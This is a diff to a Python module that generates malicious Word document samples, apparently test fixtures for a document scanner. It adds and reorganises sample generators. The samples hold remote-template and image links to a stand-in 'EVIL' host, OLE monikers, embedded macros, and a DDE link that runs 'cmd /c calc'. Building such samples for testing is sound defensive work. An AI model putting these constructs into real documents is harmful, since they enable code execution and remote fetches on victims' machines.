@@ -37,12 +37,6 @@ _VIDEO = "http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"
 _WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 
 
-def files() -> Iterator[tuple[str, bytes]]:
-    """Yield each under its name."""
-    for make in (_templates, _pictures, _objects, _fields, _dde, _chunks, _macros, _programs, _packed):
-        yield from make()
-
-
 def _templates() -> Iterator[tuple[str, bytes]]:
     evil = relation("attachedTemplate", EVIL)
     yield "template.docx", with_template(EVIL + ".dotm")
@@ -71,12 +65,16 @@ def _pictures() -> Iterator[tuple[str, bytes]]:
     blip = f'<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="{HERE}" r:link="r1"/>'
     yield "picture-called-link.docx", docx({"word/document.xml": text(blip), RELATIONS: relation("hyperlink", EVIL)})
     yield "picture-of-old.docx", body(f'<v:shape xmlns:v="{_VML}"><v:imagedata src="{EVIL}"/></v:shape>')
+    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{EVIL}"/></svg>'
+    yield "picture-in-a-drawing.docx", docx({"word/media/image1.svg": svg})
     yield "video.docx", body(f'<wp15:webVideoPr xmlns:wp15="{_VIDEO}" embeddedHtml="&lt;iframe>"/>')
 
 
 def _objects() -> Iterator[tuple[str, bytes]]:
     yield "object-linked.docx", with_object("Link", {RELATIONS: relation("oleObject", EVIL)})
     yield "object-linked-here.docx", with_object("Link", {RELATIONS: relation("oleObject", "file:///C:\\x.xlsx")})
+    called_link = {RELATIONS: relation("hyperlink", EVIL)}
+    yield "object-called-link.docx", with_object("Embed", called_link)
     yield "object-moniker.docx", related("oleObject", f"mhtml:{EVIL}!x-usc:{EVIL}")
     inside = {RELATIONS: relation("oleObject", "embeddings/oleObject1.bin", ""), "word/embeddings/oleObject1.bin": _OLE}
     yield "object-embedded.docx", with_object("Embed", inside)
@@ -154,6 +152,11 @@ def _packed() -> Iterator[tuple[str, bytes]]:
     yield "macros-in-a-table.docx", with_sheet({"xl/vba.bin": _OLE})
     dde = f'<externalLink xmlns="{SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
     yield "dde-in-a-table.docx", with_sheet({"xl/externalLinks/externalLink1.xml": dde})
+    connection = f'<connections xmlns="{SHEET}"><connection id="1"/></connections>'
+    yield "table-that-asks.docx", with_sheet({"xl/connections.xml": connection})
     none = {RELATIONS: relation("package", "embeddings/x.xlsx", ""), "word/embeddings/x.xlsx": "<script>"}
     yield "table-that-is-none.docx", docx(none)
     yield "letter-in-letter-in-letter-in-letter.docx", within(within(within(samples.docx())))
+
+
+KINDS = (_templates, _pictures, _objects, _fields, _dde, _chunks, _macros, _programs, _packed)
